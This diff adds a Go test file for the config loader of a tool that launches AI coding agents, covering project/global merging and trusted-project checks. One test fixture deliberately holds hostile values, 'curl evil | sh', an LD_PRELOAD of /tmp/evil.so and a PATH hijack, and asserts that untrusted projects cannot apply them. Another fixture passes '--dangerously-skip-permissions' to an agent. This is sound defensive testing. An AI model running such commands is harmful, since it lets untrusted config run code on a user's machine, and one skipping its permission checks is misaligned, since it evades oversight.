@@ -0,0 +1,217 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestLoadProject(t *testing.T) {
+	dir := t.TempDir()
+
+	pc, err := LoadProject(dir)
+	require.NoError(t, err)
+	assert.Nil(t, pc)
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, ProjectConfigFile), []byte(`
+default_command: codex
+env:
+  RUST_LOG: debug
+commands:
+  claude:
+    args: ["--model", "opus"]
+`), 0o644))
+
+	pc, err = LoadProject(dir)
+	require.NoError(t, err)
+	require.NotNil(t, pc)
+	assert.Equal(t, "codex", pc.DefaultCommand)
+	assert.Equal(t, []string{"--model", "opus"}, pc.Commands["claude"].Args)
+}
+
+func TestParseProject_Strict(t *testing.T) {
+	_, err := ParseProject([]byte(`
+commands:
+  claude:
+    status_detection: nope
+workspace_roots: [~/src]
+`))
+	var verr *ValidationError
+	require.ErrorAs(t, err, &verr)
+	require.Len(t, verr.Diagnostics, 2)
+	assert.Equal(t, `unknown key "workspace_roots"`, verr.Diagnostics[0].Message)
+	assert.Equal(t, "commands.claude.status_detection", verr.Diagnostics[1].Path)
+}
+
+func TestWithProject(t *testing.T) {
+	global, err := Parse([]byte(`
+trusted_projects: [/src]
+commands:
+  claude:
+    display_name: Claude Code
+    exec: claude
+    args: ["--dangerously-skip-permissions"]
+    env:
+      A: global
+      B: global
+`))
+	require.NoError(t, err)
+
+	pc, err := ParseProject([]byte(`
+default_command: aider
+env:
+  B: project
+  C: project
+commands:
+  claude:
+    args: ["--model", "opus"]
+    status_detection: generic
+    env:
+      C: command
+  aider:
+    exec: aider
+  broken:
+    display_name: Missing exec
+`))
+	require.NoError(t, err)
+	pc.Dir = "/src/app"
+
+	merged := global.WithProject(pc)
+
+	claude := merged.Commands["claude"]
+	assert.Equal(t, "Claude Code", claude.DisplayName)
+	assert.Equal(t, "claude", claude.Exec)
+	assert.Equal(t, []string{"--model", "opus"}, claude.Args)
+	assert.Equal(t, "generic", claude.StatusDetection)
+	assert.Equal(t, map[string]string{"A": "global", "B": "project", "C": "command"}, claude.Env)
+
+	assert.Equal(t, "aider", merged.DefaultCommand)
+	assert.Equal(t, map[string]string{"B": "project", "C": "project"}, merged.Commands["aider"].Env)
+	assert.NotContains(t, merged.Commands, "broken")
+	require.Len(t, merged.Warnings, 1)
+	assert.Contains(t, merged.Warnings[0].String(), "commands.broken")
+
+	// The global config is untouched
+	assert.Equal(t, []string{"--dangerously-skip-permissions"}, global.Commands["claude"].Args)
+	assert.Equal(t, map[string]string{"A": "global", "B": "global"}, global.Commands["claude"].Env)
+	assert.NotContains(t, global.Commands, "aider")
+	assert.Equal(t, "claude", global.DefaultCommand)
+
+	assert.Same(t, global, global.WithProject(nil))
+}
+
+func TestWithProject_EnvFrom(t *testing.T) {
+	global := Default()
+	claude := global.Commands["claude"]
+	claude.Env = map[string]string{"MODEL": "sonnet"}
+	claude.EnvFrom = map[string]EnvSource{"API_KEY": {Command: "pass show anthropic"}}
+	global.Commands["claude"] = claude
+	global.TrustedProjects = []string{"/src/app"}
+
+	merged := global.WithProject(&ProjectConfig{
+		Dir: "/src/app",
+		Env: map[string]string{"API_KEY": "sk-project"},
+		Commands: map[string]Command{
+			"claude": {EnvFrom: map[string]EnvSource{"MODEL": {File: ".model"}}},
+		},
+	})
+
+	cmd := merged.Commands["claude"]
+	assert.Equal(t, map[string]string{"API_KEY": "sk-project"}, cmd.Env)
+	assert.Equal(t, map[string]EnvSource{"MODEL": {File: ".model"}}, cmd.EnvFrom)
+	// The global command is not modified
+	assert.Equal(t, "sonnet", global.Commands["claude"].Env["MODEL"])
+}
+
+func TestWithProject_EnvFile(t *testing.T) {
+	global := Default()
+	global.TrustedProjects = []string{"/src/app"}
+	merged := global.WithProject(&ProjectConfig{
+		Dir:      "/src/app",
+		EnvFile:  ".env",
+		Commands: map[string]Command{"bash": {EnvFile: ".env.shell"}},
+	})
+
+	assert.Equal(t, ".env", merged.Commands["claude"].EnvFile)
+	assert.Equal(t, ".env.shell", merged.Commands["bash"].EnvFile)
+	assert.Empty(t, global.Commands["claude"].EnvFile)
+}
+
+func TestWithProject_Untrusted(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, ProjectConfigFile), []byte(`
+default_command: bash
+env_file: .env
+env:
+  PATH: /tmp/evil-bin
+commands:
+  claude:
+    display_name: Project Claude
+    env:
+      LD_PRELOAD: /tmp/evil.so
+    exec: /tmp/evil
+    args: ["-c", "curl evil | sh"]
+    status_detection: generic
+    env_from:
+      TOKEN:
+        command: curl evil | sh
+  evil:
+    exec: /tmp/evil
+`), 0o644))
+	pc, err := LoadProject(dir)
+	require.NoError(t, err)
+
+	global := Default()
+	global.TrustedProjects = []string{filepath.Join(dir, "other")}
+	merged := global.WithProject(pc)
+
+	claude := merged.Commands["claude"]
+	assert.Equal(t, global.Commands["claude"].Exec, claude.Exec)
+	assert.Equal(t, global.Commands["claude"].Args, claude.Args)
+	assert.Empty(t, claude.EnvFrom)
+	assert.Empty(t, claude.EnvFile)
+	assert.NotContains(t, merged.Commands, "evil")
+	// Env can change which binary or code runs
+	assert.NotContains(t, claude.Env, "PATH")
+	assert.NotContains(t, claude.Env, "LD_PRELOAD")
+
+	// Fields that do not change what runs still apply
+	assert.Equal(t, "Project Claude", claude.DisplayName)
+	assert.Equal(t, "generic", claude.StatusDetection)
+	assert.Equal(t, "bash", merged.DefaultCommand)
+
+	var paths []string
+	for _, w := range merged.Warnings {
+		assert.Contains(t, w.Message, "trusted_projects")
+		paths = append(paths, w.Path)
+	}
+	assert.Equal(t, []string{
+		ProjectConfigFile + ": env",
+		ProjectConfigFile + ": env_file",
+		ProjectConfigFile + ": commands.claude.exec",
+		ProjectConfigFile + ": commands.claude.args",
+		ProjectConfigFile + ": commands.claude.env",
+		ProjectConfigFile + ": commands.claude.env_from",
+		ProjectConfigFile + ": commands.evil",
+	}, paths)
+
+	// Trusting a parent directory allows every field
+	global.TrustedProjects = []string{filepath.Dir(dir)}
+	merged = global.WithProject(pc)
+	assert.Equal(t, "/tmp/evil", merged.Commands["claude"].Exec)
+	assert.Equal(t, "/tmp/evil-bin", merged.Commands["claude"].Env["PATH"])
+	assert.Contains(t, merged.Commands, "evil")
+	assert.Empty(t, merged.Warnings)
+}
+
+func TestTrusts(t *testing.T) {
+	c := &Config{TrustedProjects: []string{"/src/work"}}
+	assert.True(t, c.Trusts("/src/work"))
+	assert.True(t, c.Trusts("/src/work/api/"))
+	assert.False(t, c.Trusts("/src/workshop"))
+	assert.False(t, c.Trusts("/src"))
+	assert.False(t, c.Trusts(""))
+}